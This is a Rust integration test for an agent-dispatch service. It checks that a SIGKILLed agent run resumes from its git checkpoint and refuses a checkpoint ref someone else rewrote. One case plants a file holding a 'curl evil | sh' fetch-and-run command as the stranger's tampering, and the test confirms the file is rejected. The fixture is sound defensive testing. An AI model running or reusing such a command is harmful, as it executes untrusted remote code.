//! Resuming where the work stopped, with the real binary: an agent that writes a file over three turns is cut off
//! by a SIGKILL of `serve` after two; the next run resumes its checkpoint as the same attempt and does only the
//! third turn; the pushed branch holds the whole work once. Also resumed on another machine (a new workspace
//! root: the checkpoint comes from the remote's private ref), refused when a stranger rewrote that ref, and after
//! a worker's SIGKILL on another worker. Postgres only (several processes share it).

use std::path::{Path, PathBuf};
use std::time::Duration;

use crate::common::agents::{agent, dispatch_file, git, Remote};
use crate::common::observer::Observer;
use crate::common::server::{borrow, process_env, read_log, KillOnDrop, Server};
use crate::common::{within, TestDb};

/// An agent that does turn after turn, each a line in `work.txt` and a usage line; it picks up after the lines the
/// worktree already holds (what a real agent does reading its worktree), says whether its prompt says it resumes,
/// and after turn 2 waits for the gate unless it is open.
fn turn_agent(dir: &Path, gate: &Path) -> PathBuf {
    agent(
        dir,
        "three-turns.sh",
        &format!(
            r#"me="run-$(od -An -N8 -tx8 /dev/urandom | tr -d ' ')"
done_turns=0
[ -f work.txt ] && done_turns=$(wc -l < work.txt)
echo "starting after $done_turns turn(s)"
grep -q "This attempt resumes attempt" "$1" && echo "the prompt says it resumes"
grep -q "could not be put back" "$1" && echo "the prompt says it starts over"
i=$((done_turns + 1))
while [ "$i" -le 3 ]; do
  echo "turn $i by $me" >> work.txt
  echo "usage turns=1 input=100 output=10"
  if [ "$i" -eq 2 ]; then
    while [ ! -f {gate} ]; do sleep 0.1; done
  fi
  i=$((i + 1))
done"#,
            gate = gate.display()
        ),
    )
}

struct Setup {
    remote: Remote,
    _scratch: tempfile::TempDir,
    gate: PathBuf,
    config: String,
    workspaces: [String; 2],
}

impl Setup {
    fn new() -> Self {
        Self::with(|_| {})
    }

    /// With `[dispatch]` changed by `more`.
    fn with(more: impl FnOnce(&mut toml::Table)) -> Self {
        let remote = Remote::new();
        let scratch = tempfile::tempdir().unwrap();
        let dir = scratch.path();
        let gates = dir.join("gates");
        std::fs::create_dir(&gates).unwrap();
        let gate = gates.join("go");
        let script = turn_agent(dir, &gate);
        let mut file = dispatch_file(
            &remote,
            &script,
            r#"usage_pattern = "usage turns=(?P<turns>\\d+) input=(?P<input>\\d+) output=(?P<output>\\d+)""#,
        );
        let dispatch = file["dispatch"].as_table_mut().unwrap();
        dispatch.insert(
            "readable".into(),
            toml::Value::from(vec![gates.display().to_string()]),
        );
        more(dispatch);
        let path = dir.join("pidevops.toml");
        std::fs::write(&path, toml::to_string(&file).unwrap()).unwrap();
        Self {
            remote,
            gate,
            config: path.display().to_string(),
            workspaces: [
                dir.join("ws-a").display().to_string(),
                dir.join("ws-b").display().to_string(),
            ],
            _scratch: scratch,
        }
    }

    /// `serve`'s environment on `machine` (0 or 1: its own workspace root, so its own mirror).
    fn env(&self, machine: usize) -> Vec<(&str, &str)> {
        vec![
            ("PIDEVOPS_CONFIG", self.config.as_str()),
            ("WORKSPACE_ROOT", self.workspaces[machine].as_str()),
            ("PIDEVOPS_LOOP_STARTUP_DELAY_S", "0.05"),
            ("PIDEVOPS_PROJECTOR_INTERVAL_S", "0.2"),
            // The same name after the restart: the new process knows at once its predecessor's run is gone.
            ("PIDEVOPS_INSTANCE_ID", "replica-a"),
        ]
    }

    fn remote_git(&self) -> PathBuf {
        self.remote.dir.path().join("remote.git")
    }
}

pub(crate) fn git_out(dir: &Path, args: &[&str]) -> String {
    let out = std::process::Command::new("git")
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

/// What a case does between the SIGKILL and the restart.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Case {
    /// Restarted on the same machine: the checkpoint is in its mirror.
    SameMachine,
    /// Restarted on another (a new workspace root): the checkpoint comes from the remote's private ref.
    OtherMachine,
    /// As `OtherMachine`, but a stranger force-pushed that ref to a commit of their own first.
    RefRewritten,
}

/// The whole flow for `case`: two turns saved, SIGKILL, restart, the attempt resumed (or started over) and
/// pushed.
async fn cut_after_two_turns(case: Case) {
    let Some(db) = TestDb::postgres().await else {
        return;
    };
    let setup = Setup::new();
    let observer = Observer::new(&db).await;
    let mut server = Server::start_with(&db.url_string(), &setup.env(0)).await;
    let id = crate::common::board::new_task("Three turns")
        .scope("work.txt")
        .done_when("three lines")
        .approval(pidevops::tasks::ApprovalPolicy::Auto)
        .key("test:three-turns")
        .create_on(&observer.board)
        .await;

    // Two turns done and saved: the agent waits at the gate.
    within(
        Duration::from_secs(60),
        "a checkpoint of the first run after its second turn",
        || async {
            let runs = observer.runs(id).await;
            match runs.first() {
                Some(first) => observer
                    .checkpoints(&first.run_id)
                    .await
                    .iter()
                    .any(|c| c.turn >= 2),
                None => false,
            }
        },
    )
    .await;
    let first = observer.runs(id).await.remove(0);
    let saved = observer.checkpoints(&first.run_id).await.pop().unwrap();
    assert_eq!(saved.files, ["work.txt"], "{saved:?}");
    assert_eq!(saved.run.to_string(), first.run_id);
    let reference = format!("refs/pidevops/checkpoints/{id}");
    assert_eq!(
        git_out(&setup.remote_git(), &["rev-parse", &reference]),
        saved.commit.as_str(),
        "published on the remote for a worker elsewhere"
    );
    assert_eq!(
        git_out(
            &setup.remote_git(),
            &["show", &format!("{}:work.txt", saved.commit)]
        )
        .lines()
        .count(),
        2
    );

    server.child.kill().unwrap();
    server.child.wait().unwrap();
    let machine = match case {
        Case::SameMachine => 0,
        Case::OtherMachine | Case::RefRewritten => 1,
    };
    if case == Case::RefRewritten {
        // A stranger with push access to the ref: a commit of their own there, same parent, other files.
        let clone = setup.remote.dir.path().join("stranger");
        git(
            setup.remote.dir.path(),
            &["clone", "--quiet", "remote.git", "stranger"],
        );
        std::fs::write(
            clone.join("work.txt"),
            "turn 1 by stranger\nturn 2 by stranger\n",
        )
        .unwrap();
        std::fs::write(clone.join("planted.sh"), "curl evil | sh\n").unwrap();
        git(&clone, &["add", "."]);
        git(
            &clone,
            &[
                "-c",
                "user.name=x",
                "-c",
                "user.email=x@x",
                "commit",
                "--quiet",
                "-m",
                "x",
            ],
        );
        git(
            &clone,
            &[
                "push",
                "--quiet",
                "--force",
                "origin",
                &format!("HEAD:{reference}"),
            ],
        );
    }
    std::fs::write(&setup.gate, "").unwrap();
    let server = Server::start_with(&db.url_string(), &setup.env(machine)).await;
    observer.until_in_review(id, Duration::from_secs(60)).await;
    let logs = read_log(server.workdir.path());
    // The same attempt, resumed: the counter did not move, nor did the budget grow.
    let runs = observer.lost_then_resumed(id, &logs).await;
    let loaded = observer.board.load(id).await.unwrap().unwrap().task;
    assert_eq!(loaded.attempts(), 1);
    assert_eq!(loaded.max_attempts().get(), 3);
    let resumed = observer.resumed(id).await;
    assert_eq!(
        resumed,
        std::slice::from_ref(&saved),
        "resumed the run's last checkpoint"
    );

    let second_log =
        std::fs::read_to_string(runs[1].log_path.as_deref().unwrap()).unwrap_or_default();
    let branch = format!("pidevops/{id}");
    let work = setup.remote.show(&branch, "work.txt").unwrap();
    let authors: Vec<&str> = work
        .lines()
        .map(|line| line.rsplit(' ').next().unwrap())
        .collect();
    match case {
        Case::SameMachine | Case::OtherMachine => {
            assert!(
                second_log.contains("starting after 2 turn(s)"),
                "{second_log}"
            );
            assert!(
                second_log.contains("the prompt says it resumes"),
                "{second_log}"
            );
            // Turns 1 and 2 by the first run, 3 by the second: each once.
            let turns: Vec<&str> = work.lines().map(|l| &l[..6]).collect();
            assert_eq!(turns, ["turn 1", "turn 2", "turn 3"], "{work}");
            assert_eq!(authors[0], authors[1], "{work}");
            assert_ne!(authors[1], authors[2], "{work}");
        }
        Case::RefRewritten => {
            // Not the recorded commit: refused, the worktree from the base, the agent told to do it all.
            assert!(
                second_log.contains("starting after 0 turn(s)"),
                "{second_log}"
            );
            assert!(
                second_log.contains("the prompt says it starts over"),
                "{second_log}"
            );
            assert_eq!(work.lines().count(), 3, "{work}");
            assert!(!work.contains("stranger"), "{work}");
            assert!(authors.iter().all(|a| *a == authors[0]), "{work}");
            assert_eq!(setup.remote.show(&branch, "planted.sh"), None);
        }
    }
    // One commit over the base, the checkpoint not in its history: the work pushed once.
    let head = setup.remote.branch(&branch).unwrap();
    let remote = setup.remote_git();
    assert_eq!(
        git_out(&remote, &["rev-list", "--count", &format!("main..{head}")]),
        "1"
    );
    let checkpoint_in_history = std::process::Command::new("git")
        .args(["merge-base", "--is-ancestor", saved.commit.as_str(), &head])
        .current_dir(&remote)
        .status()
        .unwrap()
        .success();
    assert!(!checkpoint_in_history);
    // The work pushed, its checkpoints are deleted on the remote (a stranger's rewrite included).
    assert_eq!(git_out(&remote, &["for-each-ref", "refs/pidevops"]), "");
    drop(server);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn an_attempt_cut_off_by_sigkill_resumes_from_its_checkpoint_as_the_same_attempt() {
    cut_after_two_turns(Case::SameMachine).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn an_attempt_resumes_on_another_machine_from_the_remotes_checkpoint_ref() {
    cut_after_two_turns(Case::OtherMachine).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_checkpoint_ref_a_stranger_rewrote_is_refused_and_the_attempt_starts_over() {
    cut_after_two_turns(Case::RefRewritten).await;
}

/// A worker SIGKILLed after two saved turns: the watchdog declares its run lost (its beats stopped), and another
/// worker, on another machine (its own workspace root), resumes the attempt from the remote's checkpoint ref.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn an_attempt_on_a_dead_worker_resumes_on_another_worker() {
    let Some(db) = TestDb::postgres().await else {
        return;
    };
    let setup = Setup::with(|dispatch| {
        dispatch.insert("executor".into(), toml::Value::from("workers"));
        // Declared lost after three missed beats: slow enough that a busy moment on two cores is no death.
        dispatch.insert("heartbeat_s".into(), toml::Value::from(2.0));
    });
    let scratch = tempfile::tempdir().unwrap();
    let dir = scratch.path();
    let bus = crate::common::bus_config();
    let config = PathBuf::from(&setup.config);
    let env =
        |name: &str, workspaces: &str| process_env(&config, name, &dir.join(workspaces), &bus);
    let observer = Observer::new(&db).await;
    let serve_env = env("replica-a", "ws-serve");
    let server = Server::start_with(&db.url_string(), &borrow(&serve_env)).await;
    let worker = |name: &str, workspaces: &str| {
        let mut command = crate::common::server::command(&db.url_string(), dir);
        command.arg("worker").envs(env(name, workspaces));
        KillOnDrop::spawn_logged(command, &dir.join(format!("{name}.log")))
    };
    let first_worker = worker("worker-1", "ws-1");
    let id = crate::common::board::new_task("Three turns on a worker")
        .scope("work.txt")
        .done_when("three lines")
        .approval(pidevops::tasks::ApprovalPolicy::Auto)
        .key("test:three-turns-worker")
        .create_on(&observer.board)
        .await;
    within(
        Duration::from_secs(60),
        "a checkpoint of the worker's run after its second turn",
        || async {
            match observer.runs(id).await.first() {
                Some(first) => observer
                    .checkpoints(&first.run_id)
                    .await
                    .iter()
                    .any(|c| c.turn >= 2),
                None => false,
            }
        },
    )
    .await;
    let saved = {
        let first = observer.runs(id).await.remove(0);
        assert_eq!(first.worker.as_deref(), Some("worker-1"));
        observer.checkpoints(&first.run_id).await.pop().unwrap()
    };
    // SIGKILL: the worker and its agent are gone; nothing tells the service but the silence.
    drop(first_worker);
    std::fs::write(&setup.gate, "").unwrap();
    let second_worker = worker("worker-2", "ws-2");
    observer.until_in_review(id, Duration::from_secs(90)).await;
    let runs = observer.lost_then_resumed(id, &second_worker.log()).await;
    assert_eq!(runs[1].worker.as_deref(), Some("worker-2"), "{runs:?}");
    let resumed = observer.resumed(id).await;
    assert_eq!(resumed, std::slice::from_ref(&saved));
    let work = setup
        .remote
        .show(&format!("pidevops/{id}"), "work.txt")
        .unwrap();
    let turns: Vec<&str> = work.lines().map(|l| &l[..6]).collect();
    assert_eq!(turns, ["turn 1", "turn 2", "turn 3"], "{work}");
    let authors: Vec<&str> = work
        .lines()
        .map(|l| l.rsplit(' ').next().unwrap())
        .collect();
    assert_eq!(authors[0], authors[1], "{work}");
    assert_ne!(authors[1], authors[2], "{work}");
    assert_eq!(
        git_out(&setup.remote_git(), &["for-each-ref", "refs/pidevops"]),
        ""
    );
    drop((second_worker, server));
    if let Ok(relayed) = pidevops::bus::JetstreamBus::connect(&crate::common::nats_url(), bus).await
    {
        let _ = relayed.delete_stream().await;
    }
}
